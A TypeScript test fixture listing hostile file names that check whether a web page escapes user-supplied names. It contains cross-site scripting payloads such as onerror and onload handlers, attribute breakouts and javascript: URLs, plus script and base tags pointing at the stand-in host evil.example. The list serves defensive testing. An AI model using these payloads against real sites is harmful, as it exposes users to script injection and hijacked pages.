/**
 * Names that would have an effect if a page did not escape them: a dialog, a policy violation or a request,
 * which a browser test detects. None contains a slash, which names cannot.
 */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror=alert(1)>.jpg',
  '"><svg onload=alert(2)>.png',
  "' onmouseover='alert(3)' x='",
  '" onfocus="alert(4)" autofocus tabindex="1',
  '<script>alert(5)<!--.js',
  '<script src="http:evil.example">.txt',
  '<style>*{display:none!important}<!--',
  '<base href="http:evil.example">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(6)">',
  '<form id=page-data name=cookie>.json',
  '&lt;img src=x onerror=alert(7)&gt;&#60;b&#62;.txt',
  'javascript:alert(8)',
  "');alert(9);('.txt",
  '" data-opens="Abcdefghijkl" onclick="alert(10)',
  "$& $' $` $1 {{alert(11)}} {size}.txt",
  ']]><![CDATA[<svg onload=alert(12)>',
  '%3Cimg src=x onerror=alert(13)%3E.txt',
  'ha\u0308\u0301\u0302\u0303\u0304\u0305\u0306\u0307llo.txt',
  'صورة من "العطلة" <b>.jpg',
  `${'very long '.repeat(9)}.tar.gz`,
]
